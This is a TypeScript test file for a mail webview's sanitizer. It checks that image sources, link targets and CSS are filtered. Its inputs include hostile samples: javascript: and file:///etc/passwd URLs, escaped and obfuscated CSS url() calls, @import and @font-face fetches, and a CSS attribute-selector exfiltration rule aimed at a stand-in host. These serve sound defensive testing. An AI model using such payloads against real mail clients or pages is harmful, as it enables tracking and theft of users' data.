// The mail profile's URL and CSS rules, which the webview's sanitizer hooks use.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { cleanCss, decideImageSource, linkTarget } from '../../src/shared/mail-policy';

describe('mail profile: image sources', () => {
  const cids = new Map([['logo@x', 'data:image/png;base64,AAAA']]);
  test('cid: maps to the host-built data: URL, unknown cid is dropped', () => {
    assert.deepEqual(decideImageSource('cid:logo@x', cids, false), { action: 'keep', value: 'data:image/png;base64,AAAA' });
    assert.deepEqual(decideImageSource('cid:%3Clogo@x%3E', cids, false), { action: 'keep', value: 'data:image/png;base64,AAAA' });
    assert.deepEqual(decideImageSource('cid:other', cids, false), { action: 'drop', remote: false });
  });
  test('small data:image stays; svg, html and huge ones go', () => {
    assert.equal(decideImageSource('data:image/gif;base64,R0lGOD', cids, false).action, 'keep');
    assert.equal(decideImageSource('data:image/svg+xml;base64,PHN2Zz4=', cids, false).action, 'drop');
    assert.equal(decideImageSource('data:text/html;base64,PHNjcmlwdD4=', cids, false).action, 'drop');
    assert.equal(decideImageSource(`data:image/png;base64,${'A'.repeat(2_000_000)}`, cids, false).action, 'drop');
  });
  test('remote: https only when allowed, http never, protocol-relative never', () => {
    assert.deepEqual(decideImageSource('https://a.example/x.png', cids, false), { action: 'drop', remote: true });
    assert.deepEqual(decideImageSource('https://a.example/x.png', cids, true), { action: 'keep', value: 'https://a.example/x.png' });
    assert.deepEqual(decideImageSource('http://a.example/x.png', cids, true), { action: 'drop', remote: true });
    assert.deepEqual(decideImageSource('//a.example/x.png', cids, true), { action: 'drop', remote: true });
    assert.equal(decideImageSource('https://user:pw@a.example/x.png', cids, true).action, 'drop');
    assert.equal(decideImageSource('javascript:alert(1)', cids, true).action, 'drop');
  });
  test('links: http, https, mailto only', () => {
    assert.equal(linkTarget('https://example.com'), 'https://example.com/');
    assert.equal(linkTarget('mailto:a@b.c'), 'mailto:a@b.c');
    for (const bad of ['javascript:alert(1)', 'data:text/html,x', 'command:x', 'vscode://x', 'file:///etc/passwd', 'relative', '#top', ' jav\tascript:x']) {
      assert.equal(linkTarget(bad), undefined, bad);
    }
  });
});

describe('mail profile: CSS cannot fetch', () => {
  const cases: string[] = [
    'background:url(https://x.example/a.png)',
    "background-image: url('https://x.example/a.png')",
    'background: u\\72l(https://x.example/a.png)',
    'background: \\75 rl(https://x.example/a.png)',
    "background-image: image-set('https://x.example/a.png' 1x)",
    "background-image: -webkit-image-set('https://x.example/a.png' 1x)",
    'list-style: URL(https://x.example/a.png)',
    'cursor: url(https://x.example/c.cur), auto',
    'mask: src(https://x.example/m.svg)',
  ];
  for (const css of cases) {
    test(css, () => {
      const out = cleanCss(css);
      assert.ok(out.blocked >= 1, `counted: ${out.css}`);
      assert.doesNotMatch(out.css, /(?:url|image-set|src)\s*\(/i, out.css);
    });
  }
  test('a comment inside the name splits it (u/**/rl is not url): nothing to fetch', () => {
    assert.doesNotMatch(cleanCss('background: u/**/rl(https://x.example/a.png)').css, /url\s*\(/i);
  });
  test('@import, @font-face and attribute-selector exfiltration', () => {
    const css = '@import "https://x.example/a.css"; @IMPORT url(b.css); @font-face { font-family: L; src: url(https://x.example/f.woff) } input[value^="a"] { background: url(https://x.example/a) }';
    const out = cleanCss(css);
    assert.doesNotMatch(out.css, /@import|@font-face|url\(/i, out.css);
    assert.equal(out.blocked, 6); // two @import, one url() in one of them, @font-face, its src url(), the selector's url()
  });
  test('ordinary CSS is left alone', () => {
    const css = 'td { color: #333; padding: 4px 8px; font-family: "Segoe UI", sans-serif } .a:hover { text-decoration: underline }';
    assert.deepEqual(cleanCss(css), { css, blocked: 0 });
  });
});
